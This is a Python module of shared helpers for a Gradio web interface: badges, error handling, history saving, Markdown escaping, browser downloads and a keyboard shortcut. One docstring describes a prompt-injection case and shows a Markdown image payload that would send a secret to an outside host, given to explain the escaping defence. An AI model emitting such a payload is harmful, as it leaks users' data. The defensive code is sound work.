"""What every tab shares: the engine badge, a guard that turns failures into a warning (and a history entry),
text made inert for Markdown, downloads made in the browser, and Ctrl+Enter to submit."""

from __future__ import annotations

import json
import logging
import os
import re
from collections.abc import Callable
from typing import TYPE_CHECKING, Any, Literal

os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")  # before gradio is imported: no phoning home

import gradio as gr

from coach.errors import CoachError
from coach.redact import mask_url

if TYPE_CHECKING:
    from pydantic import BaseModel

    from coach.core import Coach
    from coach.settings import Settings

log = logging.getLogger(__name__)
# Characters that start Markdown images, links, emphasis, code or autolinks.
_ACTIVE = re.compile(r"[\\`*_\[\]()!#|~]")

OFFLINE_HINT = (
    "To use a language model, set OPENAI_API_KEY (OpenAI) or OPENAI_BASE_URL (Ollama, vLLM, llama.cpp) and "
    "restart coach."
)


def engine_badge(engine: str, model: str | None, *, local: str | None = None) -> str:
    """The label that tells users which engine wrote a result (`local`: where an auto-found Ollama runs)."""
    if engine != "llm":
        return "Offline engine (rule-based)"
    return f"LLM engine: {model}" + (f" (local Ollama at {local}, found automatically)" if local else "")


def header_badge(coach: Coach) -> str:
    """The badge at the top of the page: the engine, and with the offline engine how to connect a model."""
    local = coach.local_model.where if coach.local_model else None
    badge = engine_badge(coach.engine, coach.model_name, local=local)
    return badge if coach.engine == "llm" else f"{badge} · {OFFLINE_HINT}"


def data_location(settings: Settings) -> str:
    """Where the log, history and profile are kept, for people (no database library needed to say it)."""
    url = settings.db_url
    if url.startswith("sqlite:///"):
        return url.removeprefix("sqlite:///").split("?", 1)[0] or "an in-memory database"
    return mask_url(url)


def guard(what: str, fn: Callable[[], list[Any]], width: int) -> list[Any]:
    """Run a handler body; on failure a toast and `width` skipped outputs, never a traceback."""
    try:
        return fn()
    except CoachError as exc:
        gr.Warning(str(exc))
    except Exception as exc:  # a library bug: one line for the user, the traceback in the server log
        log.exception("%s failed", what)
        gr.Warning(f"Unexpected {type(exc).__name__}: {exc} — please report this.")
    return [gr.skip() for _ in range(width)]


def failure_message(exc: Exception, what: str) -> str:
    """One line for a failed request; a library bug is logged with its traceback for the server's owner."""
    if isinstance(exc, CoachError):
        return str(exc)
    log.exception("%s failed", what)
    return f"Unexpected {type(exc).__name__}: {exc} — please report this."


def remember(
    coach: Coach, feature: str, input_text: str, result: BaseModel | list[Any] | None, error: str | None = None
) -> None:
    """Save a result (or a failed attempt) to the history; a history that cannot be written never hides a result."""
    if not input_text.strip():
        return  # nothing typed: nothing worth reopening
    try:
        if isinstance(result, list):
            payload = json.dumps([r.model_dump(mode="json") for r in result], ensure_ascii=False)
        else:
            payload = result.model_dump_json() if result is not None else "{}"
        engine = coach.engine if coach.engine == "offline" else f"llm:{coach.model_name}"
        coach.store.save_history(
            feature=feature, engine=engine, input_text=input_text, result_json=payload, error=error
        )
    except CoachError as exc:
        log.warning("history not saved: %s", exc)


def inert(text: str) -> str:
    """Text from a model or a paste, made safe to put inside Markdown: no image, link or HTML comes alive.

    A prompt injection in a pasted text could make a model answer `![x](http://host/leak.png?d=SECRET)`; rendered,
    the browser would fetch it. Markdown's active characters are escaped, so it shows as the characters it is.
    """
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return _ACTIVE.sub(lambda m: "\\" + m.group(), text)


def notes_markdown(warnings: list[str]) -> str:
    return "\n".join(f"⚠ {inert(w)}  " for w in warnings)


# --- downloads -------------------------------------------------------------------------------------------------

# Made in the browser from what the page shows *now*, so an edited rewrite or table is what gets saved; no file is
# written on the server. A CSV cell starting with = + @ gets a leading ' so a spreadsheet shows it, never runs it.
_DOWNLOAD_JS = """
(value) => {
  const kind = "%(kind)s";
  let text = value ?? "";
  if (kind === "csv") {
    const cell = (c) => {
      let s = c === null || c === undefined ? "" : String(c);
      if (/^[=+@\\t\\r]/.test(s)) s = "'" + s;
      return /[",\\n\\r]/.test(s) ? '"' + s.replace(/"/g, '""') + '"' : s;
    };
    const rows = [value?.headers ?? [], ...(value?.data ?? [])];
    text = rows.map((r) => r.map(cell).join(",")).join("\\r\\n") + "\\r\\n";
  }
  const type = kind === "csv" ? "text/csv" : "text/markdown";
  const link = document.createElement("a");
  link.href = URL.createObjectURL(new Blob([text], { type: type + ";charset=utf-8" }));
  link.download = "%(filename)s";
  document.body.appendChild(link);
  link.click();
  link.remove();
  setTimeout(() => URL.revokeObjectURL(link.href), 10000);
  return [];
}
"""


def download_button(label: str, source: Any, filename: str, kind: Literal["md", "csv"], *, elem_id: str) -> gr.Button:
    """A button that downloads `source`'s current value (a text box as Markdown, a table as CSV)."""
    if not re.fullmatch(r"[\w.-]+", filename):
        raise ValueError(f"download file names are plain words: {filename!r}")
    button = gr.Button(label, size="sm", variant="secondary", elem_id=elem_id, scale=0, min_width=140)
    button.click(
        None, inputs=[source], outputs=None, js=_DOWNLOAD_JS % {"kind": kind, "filename": filename}, queue=False
    )
    return button


def editable_markdown(label: str, filename: str, *, lines: int, elem_id: str, download_id: str) -> gr.Textbox:
    """A result the user can edit before copying it or downloading it as Markdown (with its download button)."""
    box = gr.Textbox(label=label, lines=lines, interactive=True, buttons=["copy"], elem_id=elem_id)
    download_button("Download .md", box, filename, "md", elem_id=download_id)
    return box


# --- Ctrl+Enter -----------------------------------------------------------------------------------------------

SUBMIT_PREFIX = "submit-to-"
"""A text box with the class `submit-to-BUTTON_ID` sends Ctrl+Enter (⌘+Enter on a Mac) to that button."""

HEAD = f"""
<script>
document.addEventListener("keydown", (event) => {{
  if (event.key !== "Enter" || !(event.ctrlKey || event.metaKey)) return;
  const box = event.target.closest('[class*="{SUBMIT_PREFIX}"]');
  if (!box) return;
  const name = [...box.classList].find((c) => c.startsWith("{SUBMIT_PREFIX}"));
  const target = document.getElementById(name.slice({len(SUBMIT_PREFIX)}));
  if (!target) return;
  event.preventDefault();
  (target.tagName === "BUTTON" ? target : target.querySelector("button") ?? target).click();
}}, true);
</script>
"""
"""Given to `launch(head=...)`: the page's one script (Gradio's multi-line boxes submit on Shift+Enter only)."""


def submits_to(button_id: str) -> str:
    """The class that makes Ctrl+Enter in a text box click the button with this elem_id."""
    return f"{SUBMIT_PREFIX}{button_id}"
